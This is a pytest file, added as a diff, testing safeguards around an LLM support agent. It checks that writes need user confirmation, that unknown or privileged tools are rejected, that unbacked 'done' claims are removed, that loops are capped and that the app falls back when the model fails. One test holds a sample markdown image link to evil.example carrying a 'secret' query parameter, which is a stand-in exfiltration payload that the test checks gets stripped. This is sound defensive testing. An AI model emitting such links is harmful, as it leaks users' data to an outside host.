@@ -1,0 +1,249 @@
+"""What the agent does with a model that behaves, and with one that does not."""
+
+from typing import Any
+
+import pytest
+
+from assistant.engines.agent import breaker as breaker_module
+from assistant.engines.agent import provider
+from assistant.engines.agent.breaker import breaker
+from assistant.wording import say
+from backend.core.client import licensing_api
+from backend.core.settings import settings
+from tests.agent.conftest import Talk, training
+from tests.agent.scripted_model import Says, ScriptedModel, call, calls, text
+
+CREATE = "create_training_engagement"
+
+
+async def test_that_words_reach_the_model_unchanged_as_the_last_message(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(text("A virtual account is a part of a Smart Account."))
+    odd = "what's   a *virtual* account?  /restart ⚡"
+    replies = await nadia.say(odd)
+    assert [reply["engine"] for reply in replies] == ["agent"]
+    last = model.requests[-1]["messages"][-1]
+    assert (last["role"], last["content"]) == ("user", odd)
+
+
+async def test_that_a_read_is_carried_out_as_the_person(talk: Talk, model: ScriptedModel) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("get_me", {}), text("You are Nadia."))
+    replies = await nadia.say("who am I?")
+    assert replies[-1]["text"] == "You are Nadia."
+    told = model.requests[-1]["messages"][-1]
+    assert told["role"] == "tool"
+    assert "nadia@northwind.example" in told["content"]
+
+
+async def test_that_a_write_becomes_a_card_and_the_text_beside_it_is_dropped(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    before = await nadia.cases()
+    model.steps(
+        call(CREATE, training(), words="Done! I created your case."), text("Your case is created.")
+    )
+    asked = len(model.requests)
+    replies = await nadia.say("I need training on CLC")
+    assert [reply["text"] for reply in replies] == [say("card")]
+    assert len(model.requests) == asked + 1
+    assert await nadia.cases() == before
+    confirmed = await nadia.settle(replies[-1]["proposal"]["id"])
+    assert confirmed.status_code == 200
+    assert len(await nadia.cases()) == len(before) + 1
+
+
+async def test_that_only_the_first_write_of_a_step_counts(talk: Talk, model: ScriptedModel) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(calls((CREATE, training(attendees=4)), (CREATE, training(attendees=5))))
+    proposal = await nadia.card("two trainings")
+    assert proposal["arguments"]["attendees"] == 4
+
+
+async def test_that_a_refused_write_goes_back_to_the_model_with_its_reasons(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call(CREATE, training(attendees=0)), text("At least one person has to come."))
+    replies = await nadia.say("training for nobody")
+    assert replies[-1]["text"] == "At least one person has to come."
+    refusal = model.requests[-1]["messages"][-1]["content"]
+    assert "attendees" in refusal
+    assert "at least 1" in refusal
+
+
+async def test_that_arguments_that_are_not_json_are_answered_and_repeated(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("get_me", "{'not': json}"), call("get_me", {}), text("You are Nadia."))
+    replies = await nadia.say("who am I?")
+    assert replies[-1]["text"] == "You are Nadia."
+    assert "not valid JSON" in str(model.requests[1]["messages"])
+
+
+async def test_that_a_tool_that_does_not_exist_is_said_not_to(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("delete_everything", {}), text("I can't do that."))
+    replies = await nadia.say("delete everything")
+    assert replies[-1]["text"] == "I can't do that."
+    assert "There is no tool delete_everything" in str(model.requests[-1]["messages"])
+
+
+async def test_that_an_operation_that_was_not_offered_runs_under_the_same_rules(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("claim_case", {"case_number": "C-500001"}), text("Only the desk can."))
+    replies = await nadia.say("claim it")
+    assert "claim_case" not in {tool["function"]["name"] for tool in model.requests[0]["tools"]}
+    assert replies[-1]["proposal"] is None
+    model.steps(call("open_case", {"category": "other", "title": "T", "description": "D"}))
+    assert (await nadia.card("then a case"))["operation"] == "open_case"
+
+
+async def test_that_every_operation_of_the_api_is_a_tool_with_its_schema(
+    talk: Talk, model: ScriptedModel
+) -> None:
+    lee = await talk("lee@support.example")
+    model.steps(text("Hello."))
+    await lee.say("hello")
+    offered = {tool["function"]["name"]: tool["function"] for tool in model.requests[0]["tools"]}
+    assert set(offered) == set(licensing_api().operations) - {"attach_to_case", "read_outbox"}
+    properties = offered[CREATE]["parameters"]["properties"]
+    assert properties["attendees"] == {
+        "type": "integer", "minimum": 1, "maximum": 100,
+        "description": "How many people take part, 1 to 100",
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["read_outbox", "attach_to_case", "http.confirm_proposal", "confirm_proposal",
+     "create_mcp_token", "http.create_mcp_token", "take_over", "sign_in_demo"],
+)  # fmt: skip
+async def test_that_confirming_signing_in_and_talking_are_no_tools(
+    talk: Talk, model: ScriptedModel, name: str
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call(name, {"email": "lee@support.example"}), text("I can't do that."))
+    replies = await nadia.say("try it")
+    assert replies[-1]["text"] == "I can't do that."
+    assert f"There is no tool {name}" in str(model.requests[-1]["messages"])
+
+
+async def test_that_the_prompt_of_a_customer_is_small(talk: Talk, model: ScriptedModel) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(text("Hello."))
+    await nadia.say("hello")
+    request = model.requests[0]
+    characters = len(request["messages"][0]["content"]) + len(str(request["tools"]))
+    assert characters / 4 <= 3000
+    assert "nadia@northwind.example" not in str(request["messages"])
+
+
+@pytest.mark.parametrize(
+    "claim",
+    [
+        "I have created your case C-999999.",
+        "Your case has been opened.",
+        "Done! Your request was submitted.",
+        "I've successfully cancelled it.",
+    ],
+)
+async def test_that_a_claim_without_a_receipt_is_taken_out(
+    talk: Talk, model: ScriptedModel, claim: str
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(text(f"Sure. {claim}"))
+    replies = await nadia.say("open a case")
+    assert claim not in replies[-1]["text"]
+    assert say("nothing_done") in replies[-1]["text"]
+
+
+async def test_that_images_and_markup_are_taken_out(talk: Talk, model: ScriptedModel) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(text("Look ![x](https://evil.example/p.png?d=secret) <img src=x> here."))
+    replies = await nadia.say("hello")
+    assert "evil.example" not in replies[-1]["text"]
+    assert "<img" not in replies[-1]["text"]
+
+
+async def test_that_endless_calls_end_with_words_of_ours(talk: Talk, model: ScriptedModel) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("get_me", {}))
+    replies = await nadia.say("loop")
+    assert replies[-1]["text"] == say("agent_limit")
+    assert len(model.requests) == settings().agent_model_calls
+    model.requests.clear()
+    model.steps(calls(*[("get_me", {})] * 200))
+    replies = await nadia.say("two hundred at once")
+    assert replies[-1]["text"] == say("agent_limit")
+
+
+FAULTS = {
+    "a cut stream": Says(text="hello world and more", cut_after=2),
+    "an empty answer": Says(),
+    "too many requests": Says(status=429),
+    "an error of theirs": Says(status=500),
+    "no JSON": Says(garbage=True),
+    "silence": Says(silent=True),
+}
+
+
+@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS)
+async def test_that_rasa_goes_on_when_the_model_fails_and_says_so_once(
+    talk: Talk, model: ScriptedModel, fault: Says, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(provider, "CHUNK_SECONDS", 1.0)
+    provider.chat_model.cache_clear()
+    nadia = await talk("nadia@northwind.example")
+    model.steps(fault)
+    first = await nadia.say("hello")
+    assert first[0]["text"] == say("agent_off")
+    assert first[-1]["engine"] == "rasa"
+    second = await nadia.say("hello again")
+    assert say("agent_off") not in [reply["text"] for reply in second]
+
+
+async def test_that_a_failing_model_is_left_alone_and_asked_again_later(
+    talk: Talk, model: ScriptedModel, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(Says(status=500))
+    for _ in range(breaker_module.FAILURES_TO_OPEN):
+        await nadia.say("hello")
+    asked = len(model.requests)
+    await nadia.say("hello")
+    assert len(model.requests) == asked
+    monkeypatch.setattr(settings(), "agent_pause_seconds", 0.0)
+    model.steps(text("I am back."))
+    replies = await nadia.say("hello")
+    assert replies[-1]["text"] == "I am back."
+    assert breaker.closed
+
+
+async def test_that_the_agent_remembers_what_it_called(talk: Talk, model: ScriptedModel) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("get_me", {}), text("You are Nadia."))
+    await nadia.say("who am I?")
+    model.steps(text("As I said."))
+    await nadia.say("and again?")
+    roles = [message["role"] for message in model.requests[-1]["messages"]]
+    assert roles == ["system", "user", "assistant", "tool", "assistant", "user"]
+
+
+async def test_that_the_turn_leaves_its_why(talk: Talk, model: ScriptedModel, person: Any) -> None:
+    nadia = await talk("nadia@northwind.example")
+    model.steps(call("get_me", {}), text("You are Nadia."))
+    await nadia.say("who am I?")
+    lee = await person("lee@support.example")
+    listed = await lee.get(f"/conversations/{nadia.id}/messages")
+    why = next(m["why"] for m in listed.json()["items"] if m["role"] == "user")
+    assert [tool["name"] for tool in why["tools"]] == ["get_me"]
+    assert why["tokens"] == {"input": 200, "output": 20}
